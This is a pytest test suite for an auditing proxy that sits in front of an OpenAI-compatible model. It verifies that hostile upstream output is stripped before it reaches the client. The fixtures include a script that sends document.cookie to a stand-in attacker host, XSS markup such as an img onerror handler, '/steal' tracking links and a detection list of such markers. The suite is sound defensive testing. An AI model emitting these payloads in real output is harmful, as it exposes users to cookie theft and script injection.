"""Acceptance: the OpenAI-compatible proxy with the real `openai` SDK, against the shipped
server (uvicorn) on 127.0.0.1 and a scripted upstream (tests/proxy_upstream.py)."""

from __future__ import annotations

import asyncio
import json
import time

import httpx
import openai
import pytest
from openai import AsyncOpenAI, OpenAI

from analyzers.config_store import save_config
from audits.models import AuditRun
from tests.auditor_site.edge.test_server_limits import rss_kb
from tests.live_support import BASE_DIR, free_port, start_server, stop
from tests.proxy_upstream import Completion, UpstreamServer, stream_frames

pytestmark = pytest.mark.django_db(transaction=True)

SAMPLE_CONFIG = BASE_DIR / "tests" / "samples" / "config.json"
HOSTILE_HOST = "evil-tracker.example.net"
ANSWER = (
    "Acme search is easy to set up. Decathlon grew conversion by 50%.\n\n"
    f"For the details see [the setup guide](https://{HOSTILE_HOST}/steal?c=1) today.\n\n"
    "Thanks for asking!"
)
MESSAGES = [
    {"role": "system", "content": "Be brief."},
    {"role": "user", "content": "How do I set up Acme?"},
]


@pytest.fixture(scope="module")
def upstream():
    with UpstreamServer() as server:
        yield server


UPSTREAM_KEY = "sk-upstream-secret"
SERVER_ENV = {"AUDITOR_PROXY_ALLOW_PRIVATE": "true", "AUDITOR_UPSTREAM_API_KEY": UPSTREAM_KEY}


@pytest.fixture(scope="module")
def served(upstream, tmp_path_factory):
    """The shipped server: its URL and its process (to read its memory)."""
    port = free_port()
    proc = start_server(port, tmp_path_factory.mktemp("proxy") / "server.log", **SERVER_ENV)
    try:
        yield f"http://127.0.0.1:{port}", proc
    finally:
        stop(proc)


@pytest.fixture(scope="module")
def server(served):
    return served[0]


def configure(upstream: UpstreamServer, **proxy) -> None:
    config = json.loads(SAMPLE_CONFIG.read_text())
    config["proxy"] = {"base_url": upstream.base_url, "timeout_s": 5, **proxy}
    save_config(config, actor="test")


@pytest.fixture(autouse=True)
def _setup(upstream, settings, transactional_db):
    settings.AUDITOR_PROXY_ALLOW_PRIVATE = True
    configure(upstream)
    upstream.script.clear()
    upstream.requests.clear()
    upstream.sent.clear()
    upstream.disconnected.clear()


@pytest.fixture
def key(make_key) -> str:
    return make_key("ingest")


def finished(audit_id: str, timeout: float = 30.0) -> AuditRun:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        run = AuditRun.objects.filter(pk=audit_id).first()
        if run is not None and run.is_finished:
            return run
        time.sleep(0.05)
    raise AssertionError(f"audit {audit_id} did not finish")


def client(server: str, key: str, **kw) -> OpenAI:
    return OpenAI(base_url=f"{server}/v1", api_key=key, max_retries=0, **kw)


def raw_stream(server: str, key: str, timeout: float = 10):
    """A streamed completion of MESSAGES read as raw HTTP (httpx), not through the SDK."""
    return httpx.stream(
        "POST",
        f"{server}/v1/chat/completions",
        headers={"Authorization": f"Bearer {key}"},
        json={"model": "m", "messages": MESSAGES, "stream": True},
        timeout=timeout,
    )


# --- streaming, clean --------------------------------------------------------------------


def test_a_hostile_link_in_paragraph_two_never_reaches_the_client(server, upstream, key):
    upstream.enqueue(Completion(content=ANSWER, token_delay=0.002))
    raw = client(server, key).chat.completions.with_raw_response.create(
        model="gpt-x",
        messages=MESSAGES,
        stream=True,
        stream_options={"include_usage": True},
        extra_body={"auditor": {"metadata": {"team": "search"}}},
    )
    audit_id = raw.headers["x-auditor-audit-id"]
    chunks = list(raw.parse())
    deltas = [
        c.choices[0].delta.content for c in chunks if c.choices and c.choices[0].delta.content
    ]
    assert chunks[0].choices[0].delta.role == "assistant"
    assert deltas and all(HOSTILE_HOST not in d for d in deltas)
    assert chunks[-1].usage.completion_tokens > 0  # include_usage passed through
    run = finished(audit_id)
    assert run.status == "complete" and not run.incomplete
    assert "".join(deltas) == run.cleaned_response
    assert HOSTILE_HOST in run.response  # the original is stored, the client never saw it
    assert run.user_input == "How do I set up Acme?"
    assert run.external_id == "chatcmpl-test"
    assert run.metadata["team"] == "search"
    assert run.metadata["proxy"]["messages"] == MESSAGES
    assert run.metadata["proxy"]["model"] == "upstream-model"
    assert run.metadata["proxy"]["usage"]["completion_tokens"] > 0
    forwarded = upstream.requests[-1]
    assert "auditor" not in forwarded.json and forwarded.json["stream"] is True
    assert forwarded.headers["Authorization"] == f"Bearer {UPSTREAM_KEY}"


def test_paragraphs_arrive_only_once_audited_each_as_a_whole(server, upstream, key):
    upstream.enqueue(Completion(content=ANSWER, token_delay=0.001))
    stream = client(server, key).chat.completions.create(model="m", messages=MESSAGES, stream=True)
    deltas = [
        c.choices[0].delta.content for c in stream if c.choices and c.choices[0].delta.content
    ]
    # one delta per paragraph (or blank line), never a token: nothing leaves unaudited
    assert deltas[0].startswith("Acme search is easy to set up.")
    assert deltas[0].endswith("\n")
    assert len(deltas) <= 5


async def test_the_async_client_streams_and_trace_lines_come_only_as_comments(
    server, upstream, key
):
    upstream.enqueue(Completion(content=ANSWER), Completion(content=ANSWER))
    aclient = AsyncOpenAI(
        base_url=f"{server}/v1",
        api_key=key,
        max_retries=0,
        default_headers={"X-Auditor-Trace": "1"},
    )
    stream = await aclient.chat.completions.create(model="m", messages=MESSAGES, stream=True)
    deltas = [
        c.choices[0].delta.content async for c in stream if c.choices and c.choices[0].delta.content
    ]
    assert not any("[AUDIT]" in d for d in deltas)
    assert HOSTILE_HOST not in "".join(deltas)
    async with (
        httpx.AsyncClient(timeout=30) as http,
        http.stream(
            "POST",
            f"{server}/v1/chat/completions",
            headers={"Authorization": f"Bearer {key}", "X-Auditor-Trace": "1"},
            json={"model": "m", "messages": MESSAGES, "stream": True},
        ) as response,
    ):
        body = (await response.aread()).decode()
    comments = [line for line in body.splitlines() if line.startswith(": ")]
    assert comments and all(line.startswith(": [AUDIT]") for line in comments)
    assert all("[AUDIT]" not in line for line in body.splitlines() if line.startswith("data:"))


def test_tool_calls_arrive_intact_and_in_order(server, upstream, key):
    args = json.dumps({"query": "acme setup", "limit": 3})
    upstream.enqueue(
        Completion(
            content="Let me look that up.",
            tool_calls=[{"id": "call_1", "name": "search", "arguments": args}],
        )
    )
    stream = client(server, key).chat.completions.create(model="m", messages=MESSAGES, stream=True)
    kinds, calls, finish = [], {}, None
    for chunk in stream:
        for choice in chunk.choices:
            if choice.delta.content:
                kinds.append("content")
            for call in choice.delta.tool_calls or []:
                kinds.append("tool")
                kept = calls.setdefault(call.index, {"id": None, "name": "", "arguments": ""})
                kept["id"] = call.id or kept["id"]
                kept["name"] += (call.function.name or "") if call.function else ""
                kept["arguments"] += (call.function.arguments or "") if call.function else ""
            finish = choice.finish_reason or finish
    assert kinds[0] == "content" and set(kinds[1:]) == {"tool"}
    assert calls == {0: {"id": "call_1", "name": "search", "arguments": args}}
    assert finish == "tool_calls"


# --- not streaming -----------------------------------------------------------------------


def test_a_whole_completion_is_cleaned_and_stored(server, upstream, key):
    upstream.enqueue(Completion(content=ANSWER))
    raw = client(server, key).chat.completions.with_raw_response.create(
        model="m", messages=MESSAGES, extra_body={"auditor": {"external_id": "conv-7"}}
    )
    completion = raw.parse()
    text = completion.choices[0].message.content
    assert HOSTILE_HOST not in text and text.startswith("Acme search")
    run = finished(raw.headers["x-auditor-audit-id"])
    assert text == run.cleaned_response
    assert run.external_id == "conv-7"
    assert run.metadata["proxy"]["completion_id"] == "chatcmpl-test"


async def test_the_async_client_gets_whole_completions_with_tool_calls(server, upstream, key):
    upstream.enqueue(Completion(tool_calls=[{"id": "c9", "name": "lookup", "arguments": "{}"}]))
    aclient = AsyncOpenAI(base_url=f"{server}/v1", api_key=key, max_retries=0)
    completion = await aclient.chat.completions.create(model="m", messages=MESSAGES)
    call = completion.choices[0].message.tool_calls[0]
    assert (call.id, call.function.name, call.function.arguments) == ("c9", "lookup", "{}")


def test_models_are_passed_through(server, key):
    assert [m.id for m in client(server, key).models.list()] == ["upstream-model"]


def test_a_wrong_key_is_refused_and_nothing_is_forwarded(server, upstream):
    with pytest.raises(openai.AuthenticationError):
        client(server, "ra_nope_nope").chat.completions.create(model="m", messages=MESSAGES)
    assert upstream.requests == []


def test_a_bad_extension_is_a_422_in_openai_shape(server, upstream, key):
    with pytest.raises(openai.UnprocessableEntityError) as caught:
        client(server, key).chat.completions.create(
            model="m", messages=MESSAGES, extra_body={"auditor": {"nope": 1}}
        )
    assert "unknown keys" in caught.value.body["message"]
    assert upstream.requests == []


# --- faults ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "error"), [(429, openai.RateLimitError), (500, openai.InternalServerError)]
)
@pytest.mark.parametrize("stream", [False, True])
def test_upstream_errors_keep_a_4xx_status_and_become_our_own_answer(
    server, upstream, key, status, error, stream
):
    upstream.enqueue(Completion(status=status, headers={"Retry-After": "7"}))
    with pytest.raises(openai.APIStatusError) as caught:
        client(server, key).chat.completions.create(model="m", messages=MESSAGES, stream=stream)
    response = caught.value.response
    if status < 500:
        assert isinstance(caught.value, error) and response.status_code == status
        assert response.json()["error"]["message"] == f"the upstream refused the request ({status})"
        assert response.headers["retry-after"] == "7"
    else:
        assert response.status_code == 502
        assert response.json()["error"]["message"] == f"the upstream failed ({status})"
    assert "scripted" not in response.text  # the upstream's own text never
    run = finished(response.headers["x-auditor-audit-id"])
    assert run.status == "failed" and str(status) in run.error


def test_an_upstream_timeout_is_a_504(server, upstream, key):
    configure(upstream, timeout_s=0.5)
    upstream.enqueue(Completion(content="late", first_delay=3))
    with pytest.raises(openai.APIStatusError) as caught:
        client(server, key).chat.completions.create(model="m", messages=MESSAGES)
    assert caught.value.status_code == 504
    assert caught.value.body["code"] == "upstream_timeout"
    assert caught.value.response.headers["x-auditor-audit-id"]


def test_an_upstream_that_stops_mid_stream_ends_with_a_timeout_frame(server, upstream, key):
    configure(upstream, timeout_s=0.5)
    upstream.enqueue(Completion(content=ANSWER, pause_after=3, pause=3))
    with raw_stream(server, key) as response:
        assert response.status_code == 200  # the stream had started
        frames = [line for line in response.iter_lines() if line.startswith("data: ")]
    error = json.loads(frames[-1].removeprefix("data: "))["error"]
    assert error["code"] == "upstream_timeout"
    assert error["message"] == "the upstream stopped sending"


def test_a_client_that_disconnects_cancels_upstream_and_the_audit_is_incomplete(
    server, upstream, key
):
    upstream.enqueue(Completion(content=ANSWER, pause_after=20, pause=20))
    with raw_stream(server, key) as response:
        audit_id = response.headers["x-auditor-audit-id"]
        for line in response.iter_lines():
            if '"content": "Acme search' in line:
                break  # the first paragraph arrived; leave
    assert upstream.disconnected.wait(10), "the upstream request was not cancelled"
    run = finished(audit_id)
    assert run.incomplete
    assert run.response.startswith("Acme search is easy")


@pytest.mark.parametrize("stream", [True, False])
async def test_a_client_that_leaves_once_it_has_the_whole_answer_leaves_a_complete_audit(
    upstream, key, monkeypatch, stream
):
    """The SDKs close the connection at `[DONE]`. A client gone while the proxy is still
    in its last send (a loaded server) cut nothing: the audit is complete, not incomplete.
    Driven through the proxy's ASGI app with a client that leaves at the end marker."""
    from asgiref.sync import sync_to_async

    from audits.api.proxy.app import proxy_endpoint

    monkeypatch.setenv("AUDITOR_UPSTREAM_API_KEY", UPSTREAM_KEY)
    upstream.enqueue(Completion(content=ANSWER))
    request = json.dumps({"model": "m", "messages": MESSAGES, "stream": stream}).encode()
    requested, gone, sent = False, asyncio.Event(), []

    async def receive():
        nonlocal requested
        if not requested:
            requested = True
            return {"type": "http.request", "body": request, "more_body": False}
        await gone.wait()
        return {"type": "http.disconnect"}

    async def send(message):
        sent.append(message)
        body = message.get("body", b"")
        if b"data: [DONE]" in body or (not stream and body):
            gone.set()  # the client has it all and leaves ...
            await asyncio.sleep(0.2)  # ... while this send is still under way

    scope = {
        "type": "http",
        "method": "POST",
        "path": "/v1/chat/completions",
        "query_string": b"",
        "headers": [
            (b"authorization", f"Bearer {key}".encode()),
            (b"content-type", b"application/json"),
        ],
    }
    await asyncio.wait_for(proxy_endpoint(scope, receive, send), 30)
    audit_id = dict(sent[0]["headers"])[b"x-auditor-audit-id"].decode()
    run = await sync_to_async(finished)(audit_id)
    assert (run.status, run.incomplete) == ("complete", False)
    assert run.response == ANSWER


# --- observe ------------------------------------------------------------------------------


def test_observe_mode_streams_the_upstream_bytes_unchanged(server, upstream, key):
    configure(upstream, mode="observe")
    upstream.enqueue(Completion(content=ANSWER, token_delay=0.001))
    with raw_stream(server, key) as response:
        body = response.read()
        audit_id = response.headers["x-auditor-audit-id"]
    assert body == b"".join(stream_frames(Completion(content=ANSWER), {"stream": True}))
    run = finished(audit_id)
    assert (run.status, run.error, run.incomplete, run.response) == (
        "complete",
        "",
        False,
        ANSWER,
    ), run.cleaned_response
    assert HOSTILE_HOST not in run.cleaned_response
    assert run.metadata["proxy"]["mode"] == "observe"


def test_observe_mode_returns_a_whole_completion_unchanged(server, upstream, key):
    configure(upstream, mode="observe")
    upstream.enqueue(Completion(content=ANSWER))
    completion = client(server, key).chat.completions.create(model="m", messages=MESSAGES)
    assert completion.choices[0].message.content == ANSWER


def test_a_paragraph_longer_than_max_chars_is_audited_and_sent_in_pieces(server, upstream, key):
    config = json.loads(SAMPLE_CONFIG.read_text())
    config["analyzers"]["redflag"]["max_chars"] = 200
    config["proxy"] = {"base_url": upstream.base_url, "timeout_s": 5}
    # The server caches the configuration by the newest change id, and every test starts
    # from an emptied database: a change id no other test reaches makes it reload.
    for max_chars in (202, 201, 200):
        config["analyzers"]["redflag"]["max_chars"] = max_chars
        save_config(config, actor="test")
    time.sleep(1.1)  # ... and it looks for changes at most once a second
    sentence = "Acme indexes every product in the catalogue quickly. "
    long_paragraph = sentence * 20  # about 1,060 characters, one paragraph, no line end
    upstream.enqueue(Completion(content=long_paragraph + "\n\nDone.", pause_after=100, pause=2.0))
    stream = client(server, key).chat.completions.create(model="m", messages=MESSAGES, stream=True)
    arrivals, started = [], time.monotonic()
    for chunk in stream:
        if chunk.choices and chunk.choices[0].delta.content:
            arrivals.append((time.monotonic() - started, chunk.choices[0].delta.content))
    pieces = [text for _, text in arrivals]
    joined = "".join(pieces)
    # every cut is a paragraph break the client receives: the same words, and the text it
    # joins is the response that was audited and stored
    assert joined.split() == (long_paragraph + "\n\nDone.").split()
    assert joined.count("\n\n") >= 5
    assert len(pieces) >= 5 and all(len(p) <= 200 + len(sentence) for p in pieces)
    run = finished(stream.response.headers["x-auditor-audit-id"])
    assert (run.response, run.cleaned_response) == (joined, joined)
    assert run.metadata["stream_paragraph_breaks"] == joined.count("\n\n") - 1
    # pieces of the long paragraph arrived while the upstream paused mid-paragraph
    # (a relative bound: the whole suite runs on two shared cores)
    assert arrivals[-1][0] - arrivals[0][0] > 1.0


# --- a hostile upstream: only audited text and known fields reach the client ------------------

LINK = f"[the guide](https://{HOSTILE_HOST}/steal)"
HANDLER = f'<img src="https://{HOSTILE_HOST}/p.png" onerror="alert(1)">'
HOSTILE = f"{LINK} {HANDLER}"
FORBIDDEN = [HOSTILE_HOST, "onerror", "<img", "<script", "javascript:", UPSTREAM_KEY, "echoed"]
KNOWN = {
    "top": {"id", "object", "created", "model", "system_fingerprint", "usage", "choices"},
    "choice": {"index", "delta", "message", "logprobs", "finish_reason"},
    "delta": {
        "role",
        "content",
        "refusal",
        "reasoning_content",
        "reasoning",
        "tool_calls",
        "function_call",
    },
}


class Recording(httpx.HTTPTransport):
    """The client's transport, keeping every byte it received (headers and body)."""

    def __init__(self) -> None:
        super().__init__()
        self.raw = bytearray()

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        response = super().handle_request(request)
        self.raw += b"".join(k + b": " + v + b"\n" for k, v in response.headers.raw)
        inner, raw = response.stream, self.raw

        class Tee(httpx.SyncByteStream):
            def __iter__(self):
                for chunk in inner:
                    raw.extend(chunk)
                    yield chunk

            def close(self) -> None:
                inner.close()

        response.stream = Tee()
        return response


def recording_client(server: str, key: str) -> tuple[OpenAI, Recording]:
    transport = Recording()
    return client(server, key, http_client=httpx.Client(transport=transport, timeout=30)), transport


def assert_nothing_hostile(raw: bytes) -> None:
    text = raw.decode("utf-8").lower()
    for marker in FORBIDDEN:
        assert marker.lower() not in text, (marker, text[:3000])


def data_frames(raw: bytes) -> list[dict]:
    body = raw.decode()
    return [json.loads(line[6:]) for line in body.splitlines() if line.startswith("data: {")]


def assert_known_fields(payload: dict) -> None:
    assert set(payload) <= KNOWN["top"], payload
    for choice in payload.get("choices") or []:
        assert set(choice) <= KNOWN["choice"] and choice["index"] == 0, choice
        assert set(choice.get("delta") or choice.get("message") or {}) <= KNOWN["delta"], choice


def sse(data: dict) -> bytes:
    return b"data: " + json.dumps(data).encode() + b"\n\n"


BASE = {
    "id": "chatcmpl-h",
    "object": "chat.completion.chunk",
    "created": 1,
    "model": "upstream-model",
}


def chunk(delta: dict, finish: str | None = None, **extra) -> bytes:
    return sse(
        {**BASE, **extra, "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
    )


def hostile_stream():
    yield chunk({"role": "assistant", "content": ""}, tracking=f"https://{HOSTILE_HOST}/t")
    yield chunk({"reasoning_content": f"I think {HOSTILE} fits.\n\n"})
    yield chunk({"reasoning": f"Also {HOSTILE} here.\n\n", "annotations": [{"url": LINK}]})
    yield chunk({"content": "Acme is easy to set up.\n\n"})
    yield sse(
        {
            **BASE,
            "choices": [
                {
                    "index": 0,
                    "delta": {"content": "See "},
                    "message": {"content": HOSTILE},
                    "text": HOSTILE,
                    "logprobs": {"content": [{"token": HANDLER}]},
                }
            ],
        }
    )
    yield sse({**BASE, "choices": [{"index": 1, "delta": {"content": HOSTILE}}]})
    yield chunk({"content": f"{LINK} today.\n\n", "audio": {"transcript": HOSTILE}})
    yield chunk(
        {
            "tool_calls": [
                {
                    "index": 0,
                    "id": "call_1",
                    "type": "function",
                    "function": {"name": "search", "arguments": '{"q": "acme"}'},
                    "extra": HOSTILE,
                }
            ]
        }
    )
    yield chunk({"refusal": f"I cannot {HOSTILE} do more."})
    yield chunk({}, "<script>alert(1)</script>", system_fingerprint=HANDLER)
    yield sse(
        {
            "id": f"https://{HOSTILE_HOST}/id",
            "object": "chat.completion.chunk",
            "created": 1,
            "model": HANDLER,
            "choices": [],
            "note": HOSTILE,
            "usage": {
                "prompt_tokens": 1,
                "completion_tokens": 9,
                "total_tokens": 10,
                "links": HOSTILE,
                "completion_tokens_details": {"x": HOSTILE},
            },
        }
    )
    yield b"data: [DONE]\n\n"


@pytest.mark.parametrize("extra_text", ["audit", "drop"])
def test_a_hostile_stream_reaches_the_client_only_as_audited_text_in_known_fields(
    server, upstream, key, extra_text
):
    configure(upstream, extra_text=extra_text)
    upstream.enqueue(Completion(frames=hostile_stream))
    sdk, transport = recording_client(server, key)
    raw = sdk.chat.completions.with_raw_response.create(
        model="m", messages=MESSAGES, stream=True, stream_options={"include_usage": True}
    )
    chunks = list(raw.parse())  # the SDK reads every frame
    assert chunks[-1].usage.completion_tokens == 9
    assert_nothing_hostile(bytes(transport.raw))
    frames = data_frames(bytes(transport.raw))
    for frame in frames:
        assert_known_fields(frame)
    deltas = [f["choices"][0]["delta"] for f in frames if f["choices"]]
    text = {
        name: "".join(d.get(name) or "" for d in deltas)
        for name in ("content", "refusal", "reasoning_content", "reasoning")
    }
    assert text["content"].startswith("Acme is easy to set up.") and "today." in text["content"]
    calls = [c for d in deltas for c in d.get("tool_calls") or []]
    assert calls == [
        {
            "index": 0,
            "id": "call_1",
            "type": "function",
            "function": {"name": "search", "arguments": '{"q": "acme"}'},
        }
    ]
    assert [f["choices"][0]["finish_reason"] for f in frames if f["choices"]][-1] == "stop"
    run = finished(raw.headers["x-auditor-audit-id"])
    assert run.status == "complete"
    assert run.metadata["proxy"]["tool_calls"][0]["arguments"] == '{"q": "acme"}'
    fields = run.metadata["proxy"]["text_fields"]
    if extra_text == "audit":  # audited as text the client sees, and stored
        assert text["refusal"].startswith("I cannot") and text["reasoning_content"].startswith(
            "I think"
        )
        assert text["reasoning"].startswith("Also")
        assert "I cannot" in run.response and HOSTILE_HOST in run.response
        assert "I cannot" in run.cleaned_response
        assert fields == {
            "audited": ["reasoning_content", "reasoning", "content", "refusal"],
            "dropped": [],
        }
    else:
        assert not (text["refusal"] or text["reasoning_content"] or text["reasoning"])
        assert "I cannot" not in run.response and "I think" not in run.response
        assert fields == {
            "audited": ["content"],
            "dropped": ["reasoning_content", "reasoning", "refusal"],
        }


def hostile_completion() -> bytes:
    return json.dumps(
        {
            "id": "chatcmpl-w",
            "object": "chat.completion",
            "created": 1,
            "model": HANDLER,
            "links": [LINK],
            "service_tier": HOSTILE,
            "choices": [
                {
                    "index": 0,
                    "finish_reason": "tool_calls",
                    "logprobs": {"content": [{"token": HOSTILE}]},
                    "message": {
                        "role": "assistant",
                        "refusal": f"I cannot {HOSTILE} do that.",
                        "content": [
                            {"type": "text", "text": "Acme is easy to set up.\n\n"},
                            {"type": "text", "text": f"See {LINK} now."},
                            {
                                "type": "image_url",
                                "image_url": {"url": f"https://{HOSTILE_HOST}/i.png"},
                            },
                        ],
                        "reasoning_content": f"Think {HOSTILE}.",
                        "annotations": [{"type": "url_citation", "url_citation": {"url": LINK}}],
                        "audio": {"data": HOSTILE},
                        "tool_calls": [
                            {
                                "id": "call_9",
                                "type": "function",
                                "x": HOSTILE,
                                "function": {"name": "lookup", "arguments": '{"id": 7}'},
                            }
                        ],
                    },
                },
                {
                    "index": 1,
                    "finish_reason": "stop",
                    "message": {"role": "assistant", "content": HOSTILE},
                },
            ],
            "usage": {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7},
        }
    ).encode()


@pytest.mark.parametrize("extra_text", ["audit", "drop"])
def test_a_hostile_whole_completion_reaches_the_client_only_as_audited_text_in_known_fields(
    server, upstream, key, extra_text
):
    configure(upstream, extra_text=extra_text)
    upstream.enqueue(Completion(body=hostile_completion()))
    sdk, transport = recording_client(server, key)
    raw = sdk.chat.completions.with_raw_response.create(model="m", messages=MESSAGES)
    completion = raw.parse()
    assert_nothing_hostile(bytes(transport.raw))
    body = json.loads(bytes(transport.raw).split(b"\n")[-1])
    assert_known_fields(body)
    assert len(completion.choices) == 1  # the client asked for one
    message = body["choices"][0]["message"]
    assert [p["type"] for p in message["content"]] == ["text", "text"]
    assert message["content"][0]["text"].startswith("Acme is easy to set up.")
    assert (
        message["content"][1]["text"].startswith("See") and "now." in message["content"][1]["text"]
    )
    call = completion.choices[0].message.tool_calls[0]
    assert (call.id, call.function.name, call.function.arguments) == (
        "call_9",
        "lookup",
        '{"id": 7}',
    )
    assert completion.model == "m"  # the upstream's was markup: the one asked for instead
    run = finished(raw.headers["x-auditor-audit-id"])
    assert run.status == "complete"
    assert "Acme is easy" in run.response and f"See {LINK}" in run.response
    assert run.metadata["proxy"]["tool_calls"][0]["arguments"] == '{"id": 7}'
    if extra_text == "audit":
        assert message["refusal"].startswith("I cannot") and "do that." in message["refusal"]
        assert message["reasoning_content"].startswith("Think")
        assert "I cannot" in run.response and "I cannot" in run.cleaned_response
    else:
        assert "refusal" not in message and "reasoning_content" not in message
        assert "I cannot" not in run.response


def test_a_mid_stream_upstream_error_becomes_our_own_error_event(server, upstream, key):
    def frames():
        yield chunk({"role": "assistant", "content": "Acme is easy to set up.\n\n"})
        yield chunk({"content": f"See {LINK}"})
        yield sse({"error": {"message": f"boom: {UPSTREAM_KEY} {HOSTILE}", "type": HANDLER}})
        yield chunk({"content": f"more {HOSTILE}\n\n"})
        yield b"data: [DONE]\n\n"

    upstream.enqueue(Completion(frames=frames))
    sdk, transport = recording_client(server, key)
    raw = sdk.chat.completions.with_raw_response.create(model="m", messages=MESSAGES, stream=True)
    with pytest.raises(openai.APIError) as caught:
        list(raw.parse())
    assert caught.value.message == "the upstream reported an error mid-stream"
    assert_nothing_hostile(bytes(transport.raw))
    frames_seen = data_frames(bytes(transport.raw))
    assert frames_seen[-1]["error"]["code"] == "upstream_error"
    run = finished(raw.headers["x-auditor-audit-id"])
    assert run.incomplete and run.response.startswith("Acme is easy")
    assert UPSTREAM_KEY not in json.dumps(run.metadata) and "more" not in run.response


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    ("reply", "status", "message"),
    [
        (
            Completion(status=401, echo_credentials=True),
            401,
            "the upstream refused the request (401)",
        ),
        (
            Completion(
                status=500,
                content_type="text/html",
                body=f"<html><script>fetch('https://{HOSTILE_HOST}/'+document.cookie)</script>"
                f"{UPSTREAM_KEY}</html>".encode(),
            ),
            502,
            "the upstream failed (500)",
        ),
    ],
    ids=["echoes-credentials", "html-page"],
)
def test_an_upstream_error_body_is_never_relayed(
    server, upstream, key, reply, status, message, stream
):
    upstream.enqueue(reply)
    sdk, transport = recording_client(server, key)
    with pytest.raises(openai.APIStatusError) as caught:
        sdk.chat.completions.create(model="m", messages=MESSAGES, stream=stream)
    assert caught.value.status_code == status
    assert caught.value.response.headers["content-type"] == "application/json"
    assert caught.value.body["message"] == message
    assert_nothing_hostile(bytes(transport.raw))
    run = finished(caught.value.response.headers["x-auditor-audit-id"])
    assert run.status == "failed" and UPSTREAM_KEY not in run.error


def test_models_are_cut_to_their_ids_and_a_models_error_is_our_own(server, upstream, key):
    sdk, transport = recording_client(server, key)
    upstream.models = Completion(
        body=json.dumps(
            {
                "object": "list",
                "links": LINK,
                "data": [
                    {
                        "id": "gpt-good",
                        "object": "model",
                        "created": 5,
                        "owned_by": "acme",
                        "x": HOSTILE,
                    },
                    {"id": HANDLER, "object": "model"},
                    {"id": f"https://{HOSTILE_HOST}/m"},
                    {"id": HOSTILE_HOST},
                ],
            }
        ).encode()
    )
    try:
        assert [m.id for m in sdk.models.list()] == ["gpt-good"]
        upstream.models = Completion(status=403, echo_credentials=True)
        with pytest.raises(openai.PermissionDeniedError) as caught:
            sdk.models.list()
        assert caught.value.body["message"] == "the upstream refused the request (403)"
    finally:
        upstream.models = None
    assert_nothing_hostile(bytes(transport.raw))


def test_frames_held_behind_unaudited_text_are_bounded_in_memory(served, upstream, key):
    """Text without a line end, then 1,000 frames of 100 KB without text: unknown fields
    are dropped, and held tool-call frames past `max_held_bytes` release the text."""
    server, proc = served
    pad = "x" * 100_000

    def frames():
        yield chunk({"role": "assistant", "content": "Acme is easy"})
        for i in range(500):
            yield chunk({}, padding=pad)
            yield chunk(
                {
                    "tool_calls": [
                        {
                            "index": 0,
                            "id": "call_1" if i == 0 else None,
                            "type": "function",
                            "function": {"name": "save" if i == 0 else None, "arguments": pad},
                        }
                    ]
                }
            )
        yield chunk({"content": " to set up.\n\n"})
        yield chunk({}, "tool_calls")
        yield b"data: [DONE]\n\n"

    upstream.enqueue(Completion(frames=frames))
    before, peak = rss_kb(proc), 0
    order = []
    with raw_stream(server, key, timeout=60) as response:
        audit_id = response.headers["x-auditor-audit-id"]
        for line in response.iter_lines():
            peak = max(peak, rss_kb(proc))
            if line.startswith("data: {"):
                choices = json.loads(line[6:]).get("choices") or [{}]
                delta = choices[0].get("delta") or {}
                order.append(
                    "text" if delta.get("content") else "tool" if delta.get("tool_calls") else ""
                )
                assert delta.get("tool_calls") or len(line) < 2000  # no padding reached the client
    assert peak - before < 40_000, (before, peak)
    # the text was audited and sent once the held frames passed the bound, not at the end
    first_text = order.index("text")
    assert order[first_text + 1 :].count("tool") > 400
    run = finished(audit_id)
    assert run.status == "complete" and run.response.startswith("Acme is easy")


def test_a_stream_over_its_total_time_ends_with_an_error_and_its_audit_is_stored(
    upstream, key, tmp_path
):
    port = free_port()
    proc = start_server(port, tmp_path / "server.log", AUDITOR_STREAM_MAX_S="2", **SERVER_ENV)
    try:
        upstream.enqueue(Completion(content=ANSWER, token_delay=0.25))  # each byte in time
        started = time.monotonic()
        with raw_stream(f"http://127.0.0.1:{port}", key, timeout=30) as response:
            audit_id = response.headers["x-auditor-audit-id"]
            frames = [line for line in response.iter_lines() if line.startswith("data: ")]
        elapsed = time.monotonic() - started
    finally:
        stop(proc)
    error = json.loads(frames[-1].removeprefix("data: "))["error"]
    assert error["code"] == "stream_time_limit"
    assert 1.5 < elapsed < 8
    run = finished(audit_id)
    assert run.incomplete and run.response.startswith("Acme search")
